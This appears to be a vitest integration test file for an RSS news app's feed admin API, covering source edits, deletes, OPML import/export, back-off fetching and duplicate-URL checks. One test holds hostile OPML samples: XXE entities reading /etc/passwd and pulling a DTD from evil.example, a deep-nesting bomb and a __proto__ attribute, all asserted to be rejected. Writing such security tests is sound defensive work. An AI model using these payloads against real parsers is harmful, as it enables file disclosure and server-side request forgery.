// The feed admin calls on the real app (session, store, FeedService, loopback feeds): edit, delete,
// import status and OPML export / preview / import, with their refusals.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCategory, listArticles } from '../../data/index.ts';
import { FEED_URL_MESSAGE } from '../../domain/rss.ts';
import { createFeedService } from '../../feeds/importer.ts';
import { lateFeedService } from '../../../tests/support/feeds-late-service.ts';
import { startFeedServer, type FeedServer } from '../../../tests/support/feeds-server.ts';
import { startTestApi, type TestApi } from '../../../tests/support/api.ts';

let api: TestApi;
let server: FeedServer;
let close: () => Promise<void>;
let cookie: string;
let categoryId: number;
const late = lateFeedService();

beforeAll(async () => {
  api = await startTestApi({ feeds: late.feeds });
  server = await startFeedServer();
  const real = createFeedService({ db: api.db, allowLoopback: true, onArticlesAdded: () => {} });
  late.use(real);
  close = () => real.close();
  categoryId = (await createCategory(api.db, { name: 'Assistive Technology' })).id;
  cookie = await api.login();
});
afterAll(async () => {
  await close();
  await server.close();
  await api.close();
});

const json = (method: string, body: unknown) => ({
  method,
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(body),
  cookie,
});
const add = async (name: string, path: string) =>
  (await (
    await api.send(
      '/api/rss/sources',
      json('POST', { name, url: `${server.url}${path}`, categoryId }),
    )
  ).json()) as { id: number; url: string };
const upload = (path: string, file: string, fields: Record<string, string> = {}) => {
  const form = new FormData();
  form.set('file', new File([file], 'feeds.opml', { type: 'text/x-opml' }));
  for (const [k, v] of Object.entries(fields)) form.set(k, v);
  return api.send(`/api/rss/opml/${path}`, { method: 'POST', body: form, cookie });
};
const sources = async () =>
  (await (await api.send('/api/rss/sources', { cookie, cache: 'no-store' })).json()) as {
    name: string;
    url: string;
    categoryId: number;
  }[];

describe('feed admin calls', () => {
  it('answer 401 without the admin session', async () => {
    const calls = [
      api.send('/api/rss/sources/1', { ...json('PUT', {}), cookie: '' }),
      api.send('/api/rss/sources/1', { method: 'DELETE' }),
      api.send('/api/rss/status'),
      api.send('/api/rss/opml'),
      api.send('/api/rss/opml/preview', { method: 'POST', body: new FormData() }),
      api.send('/api/rss/opml/import', { method: 'POST', body: new FormData() }),
    ];

    const statuses = (await Promise.all(calls)).map((r) => r.status);

    expect(statuses).toEqual([401, 401, 401, 401, 401, 401]);
  });

  it('edit a source: 200, then 400 bad url, 404 unknown id, 409 another source url', async () => {
    const a = await add('Edit me', '/rss');
    const b = await add('Other', '/atom');
    const edit = { name: 'Edited', url: `${server.url}/rss`, categoryId };

    const ok = await api.send(`/api/rss/sources/${a.id}`, json('PUT', edit));
    const bad = await api.send(`/api/rss/sources/${a.id}`, json('PUT', { ...edit, url: 'nope' }));
    const unknown = await api.send('/api/rss/sources/9999', json('PUT', edit));
    const noCategory = await api.send(
      `/api/rss/sources/${a.id}`,
      json('PUT', { ...edit, categoryId: 999 }),
    );
    const taken = await api.send(`/api/rss/sources/${a.id}`, json('PUT', { ...edit, url: b.url }));

    expect(ok.status).toBe(200);
    expect(await ok.json()).toMatchObject({ id: a.id, name: 'Edited', status: 'Not fetched yet' });
    expect([bad.status, unknown.status, taken.status]).toEqual([400, 404, 409]);
    expect(await noCategory.json()).toMatchObject({ issues: [{ path: 'categoryId' }] });
    expect((await sources()).map((s) => s.name)).toEqual(['Edited', 'Other']);
  });

  it('import status follows a refresh, and delete keeps the imported articles', async () => {
    await api.send('/api/rss/refresh', { method: 'POST', cookie });
    const status = await (await api.send('/api/rss/status', { cookie })).json();
    const before = (await listArticles(api.db, { sort: 'newest', limit: 100, offset: 0 })).length;
    const [first] = (await (await api.send('/api/rss/sources', { cookie })).json()) as {
      id: number;
    }[];

    const deleted = await api.send(`/api/rss/sources/${first!.id}`, { method: 'DELETE', cookie });
    const again = await api.send(`/api/rss/sources/${first!.id}`, { method: 'DELETE', cookie });

    expect(status).toMatchObject({ running: false, done: 2, total: 2, added: 2, errors: 0 });
    expect(status.finishedAt).not.toBeNull();
    expect(before).toBe(2);
    expect(deleted.status).toBe(204);
    expect(again.status).toBe(404);
    expect((await sources()).map((s) => s.name)).toEqual(['Other']);
    expect((await listArticles(api.db, { sort: 'newest', limit: 100, offset: 0 })).length).toBe(
      before,
    );
  });
});

describe('OPML', () => {
  const opml = (outlines: string) =>
    `<?xml version="1.0"?><opml version="2.0"><head/><body>${outlines}</body></opml>`;
  const newFeeds = opml(
    `<outline text="Podcasts"><outline text="Pod" xmlUrl="${'https://pod.example/rss'}"/></outline>` +
      `<outline text="assistive technology"><outline text="Known" xmlUrl="https://known.example/rss"/></outline>`,
  );

  it('exports OPML 2.0 that previews and re-imports as nothing new', async () => {
    const res = await api.send('/api/rss/opml', { cookie });
    const text = await res.text();

    const preview = await (await upload('preview', text)).json();
    const imported = await (await upload('import', text)).json();

    expect(res.headers.get('content-type')).toBe('text/x-opml; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe(
      'attachment; filename="a11y-tech-news-feeds.opml"',
    );
    expect(text).toContain('<outline text="Assistive Technology"');
    expect(preview).toEqual({
      feeds: [
        {
          title: 'Other',
          url: `${server.url}/atom`,
          category: 'Assistive Technology',
          status: 'existing',
          message: `This feed is already added as 'Other' (${server.url}/atom)`,
        },
      ],
      unknownCategories: [],
    });
    expect(imported).toEqual({ added: 0, existing: 1, invalid: 0, sources: [] });
  });

  it('imports new feeds into mapped categories, and nothing when the map misses one', async () => {
    const missing = await upload('import', newFeeds, { categoryMap: '{}' });
    const preview = await (await upload('preview', newFeeds)).json();
    const ok = await upload('import', newFeeds, {
      categoryMap: JSON.stringify({ Podcasts: categoryId }),
    });

    expect(missing.status).toBe(400);
    expect(await missing.json()).toEqual({ error: 'Choose a category for "Podcasts"' });
    expect(preview.unknownCategories).toEqual(['Podcasts']);
    expect(await ok.json()).toMatchObject({ added: 2, existing: 0, invalid: 0 });
    expect((await sources()).map((s) => [s.name, s.categoryId])).toEqual([
      ['Other', categoryId],
      ['Pod', categoryId],
      ['Known', categoryId],
    ]);
  });

  it('previews private and local addresses as refused, with the reason, and imports none of them', async () => {
    const local = opml(
      ['http://10.0.0.1/rss', 'http://[::1]/rss', 'http://foo.localhost/rss', 'http://[fc00::1]/']
        .map((url, i) => `<outline text="Local ${i}" xmlUrl="${url}"/>`)
        .join(''),
    );
    const before = await sources();

    const preview = await (await upload('preview', local)).json();
    const imported = await (await upload('import', local)).json();

    expect(preview.feeds).toHaveLength(4);
    for (const feed of preview.feeds)
      expect(feed).toMatchObject({
        status: 'invalid',
        message: 'This address points to a private or local network, which feeds may not use.',
      });
    expect(imported).toEqual({ added: 0, existing: 0, invalid: 4, sources: [] });
    expect(await sources()).toEqual(before);
  });

  it('refuses a malformed file, more than 500 feeds and more than 1 MB, adding nothing', async () => {
    const many = opml(
      Array.from({ length: 501 }, (_, i) => `<outline xmlUrl="https://m.example/${i}"/>`).join(''),
    );
    // Just over 1 MB reaches the route; far over it is stopped by the app's body limit: same answer.
    const huge = opml(`<outline text="${'x'.repeat(1024 * 1024)}"/>`);
    const huger = opml(`<outline text="${'x'.repeat(3 * 1024 * 1024)}"/>`);
    // Above the 256 KB of other writes, within 1 MB: accepted.
    const big = opml(`<outline text="${'x'.repeat(600 * 1024)}"/>`);

    const malformed = await upload('import', '<opml><body><outline></body>');
    const tooMany = await upload('import', many);
    const tooLarge = await upload('preview', huge);
    const farTooLarge = await upload('import', huger);
    const bigButFine = await upload('preview', big);
    const noFile = await api.send('/api/rss/opml/preview', {
      method: 'POST',
      body: new FormData(),
      cookie,
    });

    expect(malformed.status).toBe(400);
    expect((await malformed.json()).error).toMatch(/^The file is not valid OPML: /);
    expect(tooMany.status).toBe(400);
    expect(await tooMany.json()).toEqual({ error: 'The file has more than 500 feeds' });
    expect(tooLarge.status).toBe(413);
    expect(await tooLarge.json()).toEqual({ error: 'The file is larger than 1 MB' });
    expect(farTooLarge.status).toBe(413);
    expect(await farTooLarge.json()).toEqual({ error: 'The file is larger than 1 MB' });
    expect(await bigButFine.json()).toEqual({ feeds: [], unknownCategories: [] });
    expect(noFile.status).toBe(400);
    expect(await sources()).toHaveLength(3);
  });

  it('answers 400 to entities, deep nesting and __proto__ names on preview and import', async () => {
    const doc = (body: string, doctype = '') =>
      `<?xml version="1.0"?>${doctype}<opml version="2.0"><head/><body>${body}</body></opml>`;
    const one = '<outline text="a" xmlUrl="https://h.example/f"/>';
    const hostile = [
      doc(one.replace('"a"', '"&x;"'), '<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
      doc(one, '<!DOCTYPE opml [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'),
      doc('<outline text="g">'.repeat(20_000) + '</outline>'.repeat(20_000)),
      doc(one.replace('text=', '__proto__="x" text=')),
    ];
    for (const path of ['preview', 'import'])
      for (const file of hostile) {
        const res = await upload(path, file);
        expect(res.status, `${path} ${file.slice(0, 80)}`).toBe(400);
        expect((await res.json()).error).toMatch(/^The file is not valid OPML: /);
      }
    expect(await sources()).toHaveLength(3);
  });
});

describe('fetch one source now', () => {
  it('fetches the source past its back-off and answers its stats and health; 404 unknown, 401 signed out', async () => {
    let busy = true;
    server.route('/flaky', (req, res) => {
      if (busy) return void res.writeHead(503, { 'retry-after': '3600' }).end('busy');
      res.writeHead(200, { 'content-type': 'application/rss+xml' });
      res.end(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>F</title><link>https://flaky.example/</link>' +
          '<description>d</description><item><title>Flaky story about hearing loops</title>' +
          '<link>https://flaky.example/a</link><description>Hearing loops help.</description></item></channel></rss>',
      );
    });
    const flaky = await add('Flaky', '/flaky');
    const first = await api.send(`/api/rss/sources/${flaky.id}/fetch`, { method: 'POST', cookie });
    busy = false;
    // The category update respects the back-off: the feed only waits.
    const category = await api.send(`/api/rss/update/category/${categoryId}`, {
      method: 'POST',
      cookie,
    });

    const now = await api.send(`/api/rss/sources/${flaky.id}/fetch`, { method: 'POST', cookie });
    const unknown = await api.send('/api/rss/sources/9999/fetch', { method: 'POST', cookie });
    const signedOut = await api.send(`/api/rss/sources/${flaky.id}/fetch`, { method: 'POST' });

    expect(await first.json()).toMatchObject({
      stats: { added: 0, errors: 1 },
      source: { id: flaky.id, fetch: { lastStatus: 'error', lastError: 'HTTP 503' } },
    });
    expect((await category.json()).stats).toMatchObject({ waiting: 1 });
    expect(now.status).toBe(200);
    expect(await now.json()).toMatchObject({
      stats: { added: 1, errors: 0, waiting: 0 },
      source: { id: flaky.id, status: 'Active', fetch: { lastStatus: 'ok', itemsAdded: 1 } },
    });
    expect([unknown.status, signedOut.status]).toEqual([404, 401]);
  });
});

describe('another form of a listed feed', () => {
  it('is refused on add, edit and OPML import, naming the source that holds it', async () => {
    // Prepare
    const held = await add('Held feed', '/held');
    const other = await add('Other held', '/other-held');
    const variant = `${server.url.replace('http://', 'HTTP://')}/held/?utm_source=x#top`;
    const before = await sources();
    const message = `This feed is already added as 'Held feed' (${held.url})`;
    // Act
    const added = await api.send(
      '/api/rss/sources',
      json('POST', { name: 'Again', url: variant, categoryId }),
    );
    const edited = await api.send(
      `/api/rss/sources/${other.id}`,
      json('PUT', { name: 'Other held', url: variant, categoryId }),
    );
    const preview = await (
      await upload(
        'preview',
        `<opml version="2.0"><body><outline text="Again" xmlUrl="${variant}"/></body></opml>`,
      )
    ).json();
    // Assess
    for (const res of [added, edited]) {
      expect(res.status).toBe(409);
      expect(await res.json()).toEqual({
        error: message,
        field: 'url',
        issues: [{ path: 'url', message }],
      });
    }
    expect(preview.feeds).toMatchObject([{ status: 'existing', message }]);
    expect(await sources()).toEqual(before);
  });

  it.each(['localhost:4700', '//feed.xml'])(
    'refuses %j, which is no absolute http(s) URL with a host, on add and edit',
    async (url) => {
      // Prepare
      const [source] = (await sources()) as unknown as { id: number }[];
      const before = await sources();
      // Act
      const added = await api.send(
        '/api/rss/sources',
        json('POST', { name: 'Bad', url, categoryId }),
      );
      const edited = await api.send(
        `/api/rss/sources/${source!.id}`,
        json('PUT', { name: 'Bad', url, categoryId }),
      );
      // Assess
      for (const res of [added, edited]) {
        expect(res.status).toBe(400);
        expect(await res.json()).toEqual({
          error: FEED_URL_MESSAGE,
          issues: [{ path: 'url', message: FEED_URL_MESSAGE }],
        });
      }
      expect(await sources()).toEqual(before);
    },
  );
});
